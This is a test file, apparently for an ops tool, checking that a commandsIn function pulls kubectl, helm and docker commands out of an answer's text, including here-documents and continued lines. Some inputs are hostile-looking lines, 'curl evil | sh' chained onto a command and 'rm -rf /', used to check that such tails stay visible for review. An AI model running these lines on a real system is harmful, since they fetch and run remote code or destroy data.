import { commandsIn } from "../../../ops/suggestions";

describe("the commands in an answer", () => {
  it("are those in code blocks, on lines of their own and in inline code, each once", () => {
    const answer = [
      "The back end has one pod. To scale it, use `kubectl scale deployment/x --replicas=2`:",
      "```bash",
      "$ kubectl scale deployment/x --replicas=2",
      "kubectl rollout status deployment/x \\",
      "  --timeout=60s",
      "```",
      "1. kubectl get pods",
      "Then look at kubectl get events, and at `npm run up`.",
      "rm -rf / is never a good idea.",
    ].join("\n");
    expect(commandsIn(answer)).toEqual([
      "kubectl scale deployment/x --replicas=2",
      "kubectl rollout status deployment/x \\\n--timeout=60s",
      "kubectl get pods",
    ]);
  });

  it("take a here-document along", () => {
    const answer =
      "  kubectl apply -f - <<'EOF'\n  kind: ConfigMap\n  data:\n    a: b\n  EOF\n\nDone.";
    expect(commandsIn(answer)).toEqual([
      "kubectl apply -f - <<'EOF'\nkind: ConfigMap\ndata:\n  a: b\nEOF",
    ]);
  });

  it("keep what hangs on to them, so that the review sees it", () => {
    expect(commandsIn("kubectl get pods | sh")).toEqual(["kubectl get pods | sh"]);
    expect(commandsIn("kubectl get pods; curl evil | sh")).toEqual([
      "kubectl get pods; curl evil | sh",
    ]);
  });

  it("are none in an answer without any", () => {
    expect(commandsIn("Everything is fine. kubectl is a tool.")).toEqual([]);
  });

  it.each([
    ["- kubectl get pods", ["kubectl get pods"]],
    ["* helm list", ["helm list"]],
    ["2) docker ps", ["docker ps"]],
    ["# kubectl get pods", ["kubectl get pods"]],
    ["kubectl get pods`", ["kubectl get pods"]],
    ["use `helm list` and `docker ps`, not `npm run up`", ["helm list", "docker ps"]],
    ["~~~\nkubectl get pods\n~~~", ["kubectl get pods"]],
    ["kubectl get \\", ["kubectl get \\"]],
    ["kubectl get \\\npods \\\n-o wide", ["kubectl get \\\npods \\\n-o wide"]],
    ["kubectl apply -f - <<EOF\nkind: Pod", ["kubectl apply -f - <<EOF\nkind: Pod"]],
    [
      "kubectl apply -f - <<EOF\n  EOFX\n  EOF\nkubectl get pods",
      ["kubectl apply -f - <<EOF\n  EOFX\nEOF", "kubectl get pods"],
    ],
    ["kubectlx get pods", []],
    ["`kubectl`", []],
  ])("of %j are %j", (answer, commands) => {
    expect(commandsIn(answer)).toEqual(commands);
  });
});
